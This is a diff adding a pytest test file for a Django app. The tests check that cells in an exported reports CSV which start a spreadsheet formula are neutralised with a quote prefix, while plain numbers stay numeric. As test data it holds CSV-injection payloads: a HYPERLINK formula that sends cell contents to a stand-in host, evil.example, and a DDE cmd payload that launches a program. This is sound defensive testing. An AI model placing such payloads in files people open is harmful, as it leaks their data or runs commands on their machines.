@@ -1,0 +1,81 @@
+"""The reports CSV cannot carry a live spreadsheet formula (OWASP CSV injection), and real
+numbers in it stay numbers."""
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+from frontend_scene import build_scene
+
+from frontend.csvcells import SafeWriter, neutralise
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("-", "'-"),
+        ("-inf", "'-inf"),
+        ("-nan", "'-nan"),
+        # plain numbers, also negative or signed, stay numeric
+        ("-1.500000", "-1.500000"),
+        ("+2", "+2"),
+        ("-3e-4", "-3e-4"),
+        ("-.5", "-.5"),
+        # ordinary text is untouched
+        ("resnet50 baseline", "resnet50 baseline"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-1.5, -1.5),
+        (None, None),
+    ],
+)
+def test_cells_that_start_a_formula_are_neutralised(cell, written):
+    assert neutralise(cell) == written
+
+
+def test_the_safe_writer_round_trips_through_a_csv_reader():
+    out = io.StringIO()
+    SafeWriter(out).writerow(["=1+1", "-4.25", -4.25, "plain"])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-4.25", "-4.25", "plain"]
+
+
+def test_the_reports_csv_writes_user_typed_names_as_text(admin_user):
+    scene = build_scene()
+    bert = scene.jobs["bert"]
+    bert.name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    bert.save(update_fields=["name"])
+    scene.other_team.name = "+Language"
+    scene.other_team.save(update_fields=["name"])
+    owner = bert.owner
+    owner.username = "@otto"
+    owner.save(update_fields=["username"])
+
+    client = Client()
+    client.force_login(admin_user)
+    start = (scene.now - timedelta(days=2)).date().isoformat()
+    response = client.get(
+        reverse("frontend:reports-csv"), {"start": start, "end": scene.now.date().isoformat()}
+    )
+
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    job = next(r for r in rows if r["level"] == "job" and "HYPERLINK" in r["name"])
+    assert job["name"] == "'" + bert.name
+    assert job["team"] == "'+Language" and job["owner"] == "'@otto"
+    assert {r["name"] for r in rows if r["level"] == "team"} >= {"'+Language"}
+    assert {r["name"] for r in rows if r["level"] == "user"} >= {"'@otto"}
+    # Energy and carbon are still plain numbers.
+    assert all(float(r["energy_kwh"]) >= 0 and not r["energy_kwh"].startswith("'") for r in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
